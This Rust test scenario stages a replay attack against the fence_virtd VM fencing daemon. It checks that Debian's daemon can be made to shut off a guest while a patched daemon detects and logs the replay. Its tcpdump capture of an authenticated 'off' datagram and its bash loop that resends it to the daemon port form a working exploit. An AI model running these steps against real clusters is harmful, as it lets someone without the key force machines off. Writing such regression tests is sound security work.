//! Somebody without the key records a node's `off` and sends it again while that node asks for something else. The node
//! proves that it has the key to whoever calls back, and by Debian's daemon that carries out the recording.

use super::{BOUND, GUESTS, Stage, V4, Whose};
use crate::failure::Result;
use crate::scenario::{Story, claim};
use std::time::Duration;

/// Debian's daemon knows a request again for this long.
const FORGETS: Duration = Duration::from_millis(11_500);
/// How often the node asks.
const ASKS: usize = 2;
/// A group that no daemon is in: the node's own requests are lost on their way, so that the attacker is always quicker.
const DEAF: &str = "225.0.0.99";

pub(super) fn run(stage: &Stage) -> Result<Story> {
    let pairs: Vec<_> = Whose::BOTH.into_iter().zip(GUESTS).zip([1229, 1230]).collect();
    let ports: Vec<u16> = pairs.iter().map(|(_, port)| *port).collect();
    for ((whose, _), port) in &pairs {
        stage.daemon(*whose, *port, "multicast", "interface = \"daemons\";")?;
    }
    stage.listen(&ports)?;
    for ((whose, (guest, _)), port) in &pairs {
        record(stage, *whose, guest, *port)?;
    }
    std::thread::sleep(FORGETS);
    let mut story = Story::default();
    for ((whose, (guest, _)), port) in &pairs {
        let (said, state) = attack(stage, guest, *port)?;
        let log = stage.host.sh(&format!("cat {}/{port}.log", stage.dir), "reading a log")?;
        match whose {
            Whose::Debian => claim(state == "shut off", || {
                format!("the attack is none: {guest} is {state}; the node heard {said:?}\n{log}")
            })?,
            Whose::Ours => {
                claim(state == "running", || {
                    format!("{guest} is {state}; the node heard {said:?}\n{log}")
                })?;
                claim(log.contains("recorded and sent again"), || {
                    format!("the daemon did not tell of a replay:\n{log}")
                })?;
                story.papers.push(("fence_virtd.log", log));
            }
        }
    }
    Ok(story)
}

/// The node has the guest ended and started again; its datagram is kept.
fn record(stage: &Stage, whose: Whose, guest: &str, port: u16) -> Result<()> {
    let dir = &stage.dir;
    let client = stage.client(Whose::Debian, "fence_xvm");
    let ask = |order: &str| {
        let (status, said) =
            stage.ask(&client, &format!("-k {dir}/key -p {port} -t 10 -o {order} -H {guest}"))?;
        claim(status == 0, || format!("{order} by {} daemon: {status}, {said}", whose.name()))
    };
    if stage.state(guest)? != "running" {
        ask("on")?;
    }
    // Ready when it says so; the datagram is the end of the file that it writes.
    let listen = format!(
        "rm -f {dir}/{port}.pcap; setsid --fork timeout 20 tcpdump -Z root -i daemons -U -w {dir}/{port}.pcap -c 1 udp dst port {port} \
         </dev/null >/dev/null 2>{dir}/{port}.tcpdump; timeout 10 sh -c 'until grep -q listening {dir}/{port}.tcpdump; do sleep 0.05; done'"
    );
    stage.host.sh(&listen, "starting to record")?;
    ask("off")?;
    let keep = format!(
        "timeout 10 sh -c 'until [ -s {dir}/{port}.pcap ] && [ $(stat -c %s {dir}/{port}.pcap) -gt 200 ]; do sleep 0.05; done' && \
         tail -c 176 {dir}/{port}.pcap >{dir}/{port}.off && [ $(head -c 1 {dir}/{port}.off | od -An -tu1) = 1 ]"
    );
    stage.host.sh(&keep, "keeping a recording of an off")?;
    ask("on")
}

/// The recording is sent over and over while the node asks whether the guest runs, until it does not. What the node heard
/// each time comes back, and what the guest is then.
fn attack(stage: &Stage, guest: &str, port: u16) -> Result<(Vec<String>, String)> {
    let dir = &stage.dir;
    let send = format!(
        "setsid --fork timeout 60 ip netns exec client bash -c \
         'while [ ! -e {dir}/{port}.stop ]; do cat {dir}/{port}.off >/dev/udp/{V4}/{port}; done' \
         </dev/null >{dir}/{port}.sent 2>&1"
    );
    stage.host.sh(&send, "starting to send a recording")?;
    let client = stage.client(Whose::Debian, "fence_xvm");
    let mut heard = Vec::new();
    let ended: Result<String> = (|| loop {
        let status = format!("-k {dir}/key -p {port} -a {DEAF} -t 4 -o status -H {guest}");
        heard.push(stage.ask(&client, &status)?.1);
        let state = stage.state(guest)?;
        if heard.len() == ASKS || state != "running" {
            return Ok(state);
        }
    })();
    stage.host.run(&["touch", &format!("{dir}/{port}.stop")], BOUND)?;
    Ok((heard, ended?))
}
